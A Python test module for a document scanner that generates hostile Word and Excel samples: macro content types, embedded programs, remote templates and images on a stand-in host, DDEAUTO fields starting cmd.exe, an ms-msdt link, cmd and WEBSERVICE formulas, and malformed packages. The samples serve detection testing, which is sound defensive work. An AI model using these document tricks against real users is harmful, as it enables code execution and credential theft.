"""Documents and sheets of Office that run something, hold something, or fetch something."""

from __future__ import annotations

from collections.abc import Iterator

from samspel.files.looking import Why
from tests.proof.hostile.made import Hostile
from tests.stories import samples
from tests.stories.samples import DOCUMENT_TYPE, ML, SHEET_TYPE, docx, packed, relations, xlsx

MS = "application/vnd.ms-"
OUT = "https://x.example/a"
MACRO_TYPES = (
    ("plan.docm", "word/document.xml", f"{MS}word.document.macroEnabled.main+xml", "a document with macros"),
    ("plan.dotm", "word/document.xml", f"{MS}word.template.macroEnabledTemplate.main+xml", "a template with macros"),
    ("plan.docx", "word/document.xml", f"{MS}word.document.&#109;acroEnabled.main+xml", "macros, one letter hidden"),
    ("plan.xlsm", "xl/workbook.xml", f"{MS}excel.sheet.macroEnabled.main+xml", "a sheet with macros"),
    ("plan.xltm", "xl/workbook.xml", f"{MS}excel.template.macroEnabled.main+xml", "a template of a sheet with macros"),
    ("plan.xlam", "xl/workbook.xml", f"{MS}excel.addin.macroEnabled.main+xml", "an addition to the program"),
)
OTHER_TYPES = (
    ("plan.dotx", f"{ML}.wordprocessingml.template.main+xml", "a template"),
    ("plan.pptx", f"{ML}.presentationml.presentation.main+xml", "a presentation"),
    ("plan.ppsx", f"{ML}.presentationml.slideshow.main+xml", "a presentation that starts by itself"),
    ("plan.xltx", f"{ML}.spreadsheetml.template.main+xml", "a template of a sheet"),
    ("plan.xlsb", f"{MS}excel.sheet.binary.main", "a sheet that is not XML"),
    ("plan.docx", "text/html", "a page called a document inside"),
    ("plan.docx", "", "a document that says nothing of itself"),
)
# A part of a document, what its type or its name gives away, and why it is refused.
PARTS = (
    ("word/vbaProject.bin", Why.RUNS, "macros that nothing points at"),
    ("word/VBAPROJECT.BIN", Why.RUNS, "macros in capital letters"),
    ("word/vbaData.xml", Why.RUNS, "what belongs to macros"),
    ("word/activeX/activeX1.xml", Why.RUNS, "a control"),
    ("word/activeX/activeX1.bin", Why.RUNS, "what belongs to a control"),
    ("xl/macrosheets/sheet1.xml", Why.RUNS, "macros of the oldest kind"),
    ("word/embeddings/oleObject1.bin", Why.HOLDS, "an object of another program"),
    ("word/embeddings/program.exe", Why.HOLDS, "a program"),
    ("word/embeddings/plan.docm", Why.HOLDS, "a document with macros in a document"),
    ("word/embeddings/plan.pdf", Why.HOLDS, "a PDF in a document"),
    ("word/afchunk.mht", Why.HOLDS, "a page in a document"),
    ("word/afchunk.rtf", Why.HOLDS, "an old text in a document"),
    ("word/media/film.mp4", Why.HOLDS, "a film in a document"),
    ("word/embeddings/a.docx", Why.HOLDS, "a program called a document in a document"),
    ("word/printer.bin", Why.HOLDS, "a part of no kind"),
)
# How a relation is called, where it leads, its mode, and why it is refused.
LINKS = (
    ("attachedTemplate", "https://x.example/a.dotm", "External", Why.FETCHES, "a template fetched as it is opened"),
    ("attachedTemplate", "file:///\\\\x.example\\a.dotm", "External", Why.FETCHES, "a template from a shared disk"),
    ("attachedTemplate", "https://x.example/a", "external", Why.FETCHES, "a template, told in small letters"),
    ("image", OUT, "External", Why.FETCHES, "a picture that tells when it is opened"),
    ("image", "\\\\x.example\\a.png", "External", Why.FETCHES, "a picture that asks for one's password"),
    ("oleObject", OUT, "External", Why.HOLDS, "an object fetched as it is opened"),
    (
        "oleObject",
        "mhtml:https://x.example!x-usc:https://x.example",
        "External",
        Why.HOLDS,
        "an object by way of a page",
    ),
    ("frame", OUT, "External", Why.FETCHES, "a frame with a page"),
    ("subDocument", OUT, "External", Why.FETCHES, "a document in parts"),
    ("aFChunk", "afchunk.xml", "", Why.HOLDS, "other text taken in as it is opened"),
    ("video", OUT, "External", Why.FETCHES, "a film from elsewhere"),
    ("customXml", OUT, "External", Why.FETCHES, "data from elsewhere"),
    ("control", "activeX.xml", "", Why.RUNS, "a control by its relation alone"),
    (
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "a.xml",
        "",
        Why.RUNS,
        "macros by another name",
    ),
    (
        "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
        "a.xml",
        "",
        Why.RUNS,
        "buttons that run",
    ),
    ("keyMapCustomizations", "a.xml", "", Why.RUNS, "keys that run"),
    ("attachedToolbars", "a.xml", "", Why.RUNS, "tools that run"),
    ("hyperlink", "javascript:alert(1)", "External", Why.FETCHES, "a link that is a script"),
    ("hyperlink", "vbscript:a", "External", Why.FETCHES, "a link that is another script"),
    ("hyperlink", "data:text/html,a", "External", Why.FETCHES, "a link that is a page"),
    ("hyperlink", "file:///c:/windows/system32/calc.exe", "External", Why.FETCHES, "a link to a program"),
    ("hyperlink", "\\\\x.example\\a", "External", Why.FETCHES, "a link to a shared disk"),
    ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External", Why.FETCHES, "a link to a helper of Windows"),
    ("hyperlink", "search-ms:query=a", "External", Why.FETCHES, "a link to a search"),
    ("hyperlink", " JAVASCRIPT:a", "External", Why.FETCHES, "a link that is a script after a space"),
    ("hyperlink", "../../a.exe", "External", Why.FETCHES, "a link to what lies beside"),
)
SHEET_LINKS = (
    ("externalLink", "externalLinks/externalLink1.xml", "", Why.FETCHES, "figures from another sheet"),
    ("externalLinkPath", "file:///c:/a.xlsx", "External", Why.FETCHES, "figures from a disk"),
    ("connections", "connections.xml", "", Why.FETCHES, "figures from a database"),
    ("queryTable", "a.xml", "", Why.FETCHES, "figures from a page"),
    ("xlMacrosheet", "a.xml", "", Why.RUNS, "macros of the oldest kind by their relation"),
    ("xlIntlMacrosheet", "a.xml", "", Why.RUNS, "macros in another language"),
    ("dialogsheet", "a.xml", "", Why.RUNS, "a window that runs"),
)  # fmt: skip
RUN, INSTR = "<w:r><w:instrText>{}</w:instrText></w:r>", "<w:instrText>{}</w:instrText>"
FIELDS = (
    ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe a", "a program started by a field"),
    ("DDE a b", "a program asked by a field"),
    (" ddeauto a b", "a program started, in small letters"),
    ("INCLUDETEXT https://x.example/a", "text fetched by a field"),
    ("INCLUDEPICTURE https://x.example/a", "a picture fetched by a field"),
    ("LINK Excel.Sheet a", "a sheet fetched by a field"),
    ("DATABASE \\d a", "a database asked by a field"),
)
CELL = "<c r='A1'><f>{}</f></c>"
FORMULAS = (
    ("WEBSERVICE(&quot;https://x.example&quot;)", "a formula that fetches"),
    ("webservice (A1)", "a formula that fetches, in small letters"),
    ("cmd|&apos; /C calc&apos;!A0", "a formula that starts a program"),
    ("CALL(&quot;kernel32&quot;)", "a formula that calls the system"),
    ("REGISTER(&quot;a&quot;)", "a formula that makes itself known"),
    ("RTD(&quot;a&quot;,,&quot;b&quot;)", "a formula that asks a server"),
)


def made() -> Iterator[Hostile]:
    """Give each."""
    for name, part, kind, tries in MACRO_TYPES:
        base = samples.document_parts() if "word" in part else samples.sheet_parts()
        yield Hostile(name, tries, packed({**base, "[Content_Types].xml": samples.types(kind, part)}), Why.RUNS)
    for name, kind, tries in OTHER_TYPES:
        told = samples.types(kind, "word/document.xml")
        yield Hostile(name, tries, docx(**{"[Content_Types].xml": told}), Why.UNKNOWN)
    for part, why, tries in PARTS:
        yield Hostile("plan.docx", tries, docx(**{part: b"MZ\x90\0" if not part.endswith(".xml") else b"<a/>"}), why)
    yield from linked()
    yield from written()
    yield from puzzling()


def linked() -> Iterator[Hostile]:
    for kind, target, mode, why, tries in LINKS:
        told = relations((kind, target.replace("&", "&amp;"), mode))
        yield Hostile("plan.docx", tries, docx(**{"word/_rels/document.xml.rels": told}), why)
    for kind, target, mode, why, tries in SHEET_LINKS:
        yield Hostile("plan.xlsx", tries, xlsx(**{"xl/_rels/a.xml.rels": relations((kind, target, mode))}), why)


def written() -> Iterator[Hostile]:
    for said, tries in FIELDS:
        yield Hostile("plan.docx", tries, packed(samples.document_parts(RUN.format(said))), Why.FETCHES)
    pieces = "".join(INSTR.format(piece) for piece in ("D", "DE", "AUTO", " c:\\a"))
    yield Hostile("plan.docx", "a field cut into pieces", packed(samples.document_parts(pieces)), Why.FETCHES)
    simple = '<w:fldSimple w:instr="DDEAUTO a b"/>'
    yield Hostile("plan.docx", "a field told in one", packed(samples.document_parts(simple)), Why.FETCHES)
    lettered = "<w:instrText>&#68;DEAUTO a</w:instrText>"
    yield Hostile("plan.docx", "a field, one letter hidden", packed(samples.document_parts(lettered)), Why.FETCHES)
    head = docx(**{"word/header1.xml": f'<a xmlns:w="{samples.WORD}">{RUN.format("DDEAUTO a")}</a>'})
    yield Hostile("plan.docx", "a field at the head of the page", head, Why.FETCHES)
    for said, tries in FORMULAS:
        yield Hostile("plan.xlsx", tries, packed(samples.sheet_parts(CELL.format(said))), Why.FETCHES)
    names = "<a><definedName name='Auto_Open'>CALL(1)</definedName></a>"
    yield Hostile("plan.xlsx", "a name that runs as it is opened", xlsx(**{"xl/names.xml": names}), Why.FETCHES)
    dde = xlsx(**{"xl/externalLinks/a.xml": "<a><ddeLink ddeService='cmd'/></a>"})
    yield Hostile("plan.xlsx", "a program asked by a sheet", dde, Why.FETCHES)
    ole = xlsx(**{"xl/externalLinks/a.xml": "<a><oleLink/></a>"})
    yield Hostile("plan.xlsx", "an object asked by a sheet", ole, Why.FETCHES)
    drawn = docx(**{"word/media/a.svg": "<svg><script>alert(1)</script></svg>"})
    yield Hostile("plan.docx", "a drawing with a script", drawn, Why.RUNS)
    page = docx(**{"word/media/a.svg": "<svg><foreignObject/></svg>"})
    yield Hostile("plan.docx", "a drawing with a page in it", page, Why.RUNS)


def puzzling() -> Iterator[Hostile]:
    """Documents put together so that two readers do not read the same."""
    parts = samples.document_parts()
    without = {name: told for name, told in parts.items() if name != "_rels/.rels"}
    yield Hostile("plan.docx", "a document that begins nowhere", packed(without), Why.UNKNOWN)
    two = relations(("officeDocument", "word/document.xml", ""), ("officeDocument", "word/other.xml", ""))
    yield Hostile("plan.docx", "a document that begins twice", docx(**{"_rels/.rels": two}), Why.UNKNOWN)
    none = {name: told for name, told in parts.items() if name != "[Content_Types].xml"}
    yield Hostile("plan.docx", "a document without types", packed(none), Why.UNKNOWN)
    away = relations(("officeDocument", "https://x.example/a.xml", "External"))
    yield Hostile("plan.docx", "a document that begins elsewhere", docx(**{"_rels/.rels": away}), Why.FETCHES)
    both = packed(
        {**parts, **samples.sheet_parts(), "[Content_Types].xml": samples.types(SHEET_TYPE, "word/document.xml")}
    )
    yield Hostile("plan.docx", "a document that says it is a sheet and begins as another", both, Why.UNKNOWN)
    override = f'<Override PartName="/word/a.xml" ContentType="{MS}office.vbaProject"/>'
    told = samples.types(DOCUMENT_TYPE, "word/document.xml", override)
    yield Hostile("plan.docx", "macros in a part called data", docx(**{"[Content_Types].xml": told}), Why.RUNS)
    default = f'<Default Extension="png" ContentType="{MS}office.activeX+xml"/>'
    told = samples.types(DOCUMENT_TYPE, "word/document.xml", default)
    yield Hostile("plan.docx", "controls called pictures", docx(**{"[Content_Types].xml": told}), Why.RUNS)
